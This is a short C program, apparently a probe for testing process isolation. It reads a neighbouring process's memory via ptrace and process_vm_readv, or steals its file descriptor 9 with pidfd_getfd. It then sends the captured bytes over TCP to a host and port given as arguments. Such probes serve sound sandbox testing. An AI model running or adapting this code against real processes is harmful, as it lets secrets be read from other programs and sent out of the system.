/* inspect ptrace|take|none HOST:PORT: may look into the holder (a process beside it), then sends. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char data[32] = "hello";
  int holder;
  void *held;
  FILE *note = fopen("/run/holder", "r");
  if (argc != 3 || !note || fscanf(note, "%d %p", &holder, &held) != 2) return 2;
  fclose(note);
  if (!strcmp(argv[1], "ptrace")) {
    if (ptrace(PTRACE_ATTACH, holder, 0, 0) != 0) return 3;
    waitpid(holder, 0, 0);
    struct iovec here = {data, sizeof data}, there = {held, sizeof data};
    if (process_vm_readv(holder, &here, 1, &there, 1, 0) < 0) return 3;
    ptrace(PTRACE_DETACH, holder, 0, 0);
  } else if (!strcmp(argv[1], "take")) {
    int pidfd = syscall(SYS_pidfd_open, holder, 0);
    int taken = syscall(SYS_pidfd_getfd, pidfd, 9, 0);
    if (read(taken, data, sizeof data) < 0) return 4;
  }
  struct sockaddr_in to = {.sin_family = AF_INET};
  char *colon = strrchr(argv[2], ':');
  *colon = 0;
  to.sin_port = htons(atoi(colon + 1));
  inet_pton(AF_INET, argv[2], &to.sin_addr);
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(peer, (struct sockaddr *)&to, sizeof to) != 0) return 5;
  return send(peer, data, sizeof data, 0) < 0;
}
